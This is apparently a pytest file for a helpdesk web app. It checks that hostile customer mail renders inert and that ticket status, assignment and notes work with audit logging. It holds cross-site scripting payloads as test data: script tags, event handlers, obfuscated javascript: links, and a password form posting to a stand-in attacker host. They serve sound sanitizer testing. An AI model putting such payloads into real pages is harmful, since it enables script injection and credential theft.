"""The ticket page: hostile mail shown inert, and the agent's changes (status, assign, notes)."""

from __future__ import annotations

import factories
import lxml.html
from sqlmodel import select

from helpdesk.mail.parsing.sanitize import sanitize_html
from helpdesk.models import AuditEvent, Message, MessageKind, Ticket, TicketStatus
from helpdesk.services import agents as agent_service

OUR_SCRIPTS = ["/static/vendor/htmx-2.0.11.min.js", "/static/app.js"]
#: Our other scripts: the keyboard and @mentions on every agent page, the inbox's selection
#: and views on the inbox.
PAGE_SCRIPTS = {
    "/static/js/keys.js",
    "/static/mentions.js",
    "/static/js/select.js",
    "/static/js/views.js",
}

HOSTILE_HTML = """
<p>Hei, laskuni ei näy.</p>
<script>alert('script')</script>
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('link')">klikkaa</a>
<a href="JaVaScRiPt&#58;alert('entity')">toinen</a>
<svg onload="alert('svg')"><circle r="5"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<style>body { display: none }</style>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<form action="https://evil.example/steal" method="post"><input name="password"><button>Lähetä</button></form>
<div style="background:url(https://evil.example/track.png)" onclick="alert('click')">tyyli</div>
<img src="https://tracker.example/pixel.gif" alt="seuranta">
<object data="https://evil.example/x.swf"></object>
<base href="https://evil.example/">
<body onload="alert('body')">runko</body>
"""


def _audit(session, action):
    return list(session.exec(select(AuditEvent).where(AuditEvent.action == action)))


def _assert_inert(html: str) -> None:
    doc = lxml.html.document_fromstring(html)
    scripts = doc.xpath("//script")
    sources = [s.get("src") for s in scripts]
    assert sources[:2] == OUR_SCRIPTS
    assert set(sources[2:]) <= PAGE_SCRIPTS
    assert all(not (s.text or "").strip() for s in scripts)
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), (el.tag, name, value)
            assert "javascript:" not in value.lower().replace(" ", ""), (el.tag, name)
    assert not doc.xpath("//iframe | //object | //embed | //svg | //style | //base")
    assert not doc.xpath("//meta[@http-equiv]")
    # Every form posts to this site (a dialog's form only closes its dialog).
    forms = [f for f in doc.xpath("//form") if f.get("method") != "dialog"]
    assert all((f.get("action") or "").startswith("/") for f in forms)
    assert not doc.xpath("//*[@style]")
    for img in doc.xpath("//img[@src]"):
        assert not img.get("src").lower().startswith(("http:", "https:", "//")), img.get("src")


def test_hostile_mail_html_is_rendered_inert(session, logged_in):
    ticket = factories.ticket(session, subject="Hyökkäys")
    factories.message(
        session, ticket, text="Hei, laskuni ei näy.", html=sanitize_html(HOSTILE_HTML)
    )
    page = logged_in.get(f"/tickets/{ticket.id}")
    assert page.status_code == 200
    _assert_inert(page.text)
    doc = lxml.html.document_fromstring(page.text)
    mail = doc.xpath("//div[contains(@class, 'mail-html')]")
    assert len(mail) == 1
    assert "Hei, laskuni ei näy." in mail[0].text_content()
    # The tracking pixel is kept for the agent to load on request, but not loaded.
    remote = mail[0].xpath(".//img[@data-remote-src]")
    assert [i.get("data-remote-src") for i in remote] == ["https://tracker.example/pixel.gif"]
    assert doc.xpath("//button[contains(@class, 'show-images')]")
    # Links from mail open in a new tab without handing over our window.
    for link in mail[0].xpath(".//a[@href]"):
        assert "noopener" in link.get("rel", "")


def test_html_in_subject_and_sender_is_escaped(session, logged_in):
    box = factories.mailbox(session)
    payload = '<img src=x onerror="alert(1)">'
    ticket = factories.ticket(session, subject=f"Lasku {payload}", mailbox=box)
    message = session.exec(select(Message).where(Message.ticket_id == ticket.id)).one()
    message.from_name = f"Paha {payload}"
    ticket.customer_name = "<script>alert('name')</script>"
    session.add_all([message, ticket])
    session.commit()
    for path in ("/tickets", f"/tickets/{ticket.id}"):
        page = logged_in.get(path)
        _assert_inert(page.text)
        assert "&lt;img src=x onerror=" in page.text
    assert "Paha &lt;img" in logged_in.get(f"/tickets/{ticket.id}").text
    assert "&lt;script&gt;alert" in logged_in.get("/tickets").text


def test_plain_text_mail_is_escaped_and_quotes_fold(session, logged_in):
    ticket = factories.ticket(
        session,
        text="Kiitos!\n\nMatti kirjoitti:\n> <script>alert(1)</script>\n> vanha viesti",
    )
    page = logged_in.get(f"/tickets/{ticket.id}")
    _assert_inert(page.text)
    doc = lxml.html.document_fromstring(page.text)
    quoted = doc.xpath("//details[contains(@class, 'quoted')]//pre")
    assert len(quoted) == 1
    assert "<script>alert(1)</script>" in quoted[0].text_content()


def test_status_change(session, logged_in, admin):
    ticket = factories.ticket(session)
    response = logged_in.form(
        f"/tickets/{ticket.id}/status", {"status": "closed"}, follow_redirects=False
    )
    assert response.status_code == 303
    assert session.get(Ticket, ticket.id).status == TicketStatus.closed
    [event] = _audit(session, "ticket.status")
    assert (event.agent_id, event.details) == (admin.id, {"old": "open", "new": "closed"})
    doc = lxml.html.document_fromstring(logged_in.get(f"/tickets/{ticket.id}").text)
    [closed] = doc.xpath("//button[@data-testid='status-closed']")
    assert closed.get("disabled") is not None
    assert doc.xpath("//*[@data-testid='ticket-status']")[0].get("class") == "status closed"


def test_status_change_over_htmx_returns_the_sidebar(session, logged_in):
    ticket = factories.ticket(session)
    response = logged_in.post(
        f"/tickets/{ticket.id}/status",
        data={"status": "pending", "csrf_token": logged_in.csrf},
        headers={"HX-Request": "true", "HX-Target": "ticket-meta"},
    )
    assert response.status_code == 200
    assert response.text.lstrip().startswith('<section id="ticket-meta"')
    assert "<html" not in response.text


def test_unknown_status_is_a_clear_error(session, logged_in):
    ticket = factories.ticket(session)
    response = logged_in.form(f"/tickets/{ticket.id}/status", {"status": "deleted"})
    assert response.status_code == 400
    assert "deleted" in response.text
    assert session.get(Ticket, ticket.id).status == TicketStatus.open


def test_assign_to_me_other_and_nobody(session, logged_in, admin):
    ticket = factories.ticket(session)
    other = factories.agent(session, name="Olli Toinen")
    logged_in.form(f"/tickets/{ticket.id}/assign", {"assignee": "me"})
    assert session.get(Ticket, ticket.id).assignee_id == admin.id
    logged_in.form(f"/tickets/{ticket.id}/assign", {"assignee": str(other.id)})
    assert session.get(Ticket, ticket.id).assignee_id == other.id
    assert "Olli Toinen" in logged_in.get(f"/tickets/{ticket.id}").text
    logged_in.form(f"/tickets/{ticket.id}/assign", {"assignee": ""})
    assert session.get(Ticket, ticket.id).assignee_id is None
    events = _audit(session, "ticket.assign")
    assert [e.details for e in events] == [
        {"new": admin.id},
        {"old": admin.id, "new": other.id},
        {"old": other.id},
    ]
    assert {e.agent_id for e in events} == {admin.id}


def test_assign_refuses_inactive_and_unknown_agents(session, logged_in, admin):
    ticket = factories.ticket(session)
    gone = factories.agent(session)
    agent_service.update_agent(session, agent=gone, by=admin, active=False)
    response = logged_in.form(f"/tickets/{ticket.id}/assign", {"assignee": str(gone.id)})
    assert response.status_code == 400
    for unknown in ("999999", "bob", "²"):  # "²".isdigit() is true, int("²") fails
        response = logged_in.form(f"/tickets/{ticket.id}/assign", {"assignee": unknown})
        assert response.status_code == 400
    assert session.get(Ticket, ticket.id).assignee_id is None


def test_add_note(session, logged_in, admin):
    ticket = factories.ticket(session)
    response = logged_in.post(
        f"/tickets/{ticket.id}/notes",
        data={"text": "  Soitin asiakkaalle.  ", "csrf_token": logged_in.csrf},
        headers={"HX-Request": "true", "HX-Target": "thread"},
    )
    assert response.status_code == 200
    assert response.text.lstrip().startswith('<div id="thread"')
    assert "Soitin asiakkaalle." in response.text
    note = session.exec(select(Message).where(Message.kind == MessageKind.note)).one()
    assert (note.text, note.author_id) == ("Soitin asiakkaalle.", admin.id)
    assert session.get(Ticket, ticket.id).message_count == 2
    [event] = _audit(session, "ticket.note")
    assert event.details == {"message_id": note.id}


def test_empty_note_is_a_clear_error(session, logged_in):
    ticket = factories.ticket(session)
    plain = logged_in.form(f"/tickets/{ticket.id}/notes", {"text": "   "})
    assert plain.status_code == 400
    assert "Muistiinpano on tyhjä" in plain.text or "The note is empty" in plain.text
    htmx = logged_in.post(
        f"/tickets/{ticket.id}/notes",
        data={"text": "", "csrf_token": logged_in.csrf},
        headers={"HX-Request": "true", "HX-Target": "thread"},
    )
    assert htmx.status_code == 400
    assert htmx.headers["HX-Retarget"] == "#flash"
    assert session.exec(select(Message).where(Message.kind == MessageKind.note)).all() == []


def test_unknown_ticket_is_404(logged_in):
    response = logged_in.get("/tickets/999999")
    assert response.status_code == 404
    assert "<html" in response.text
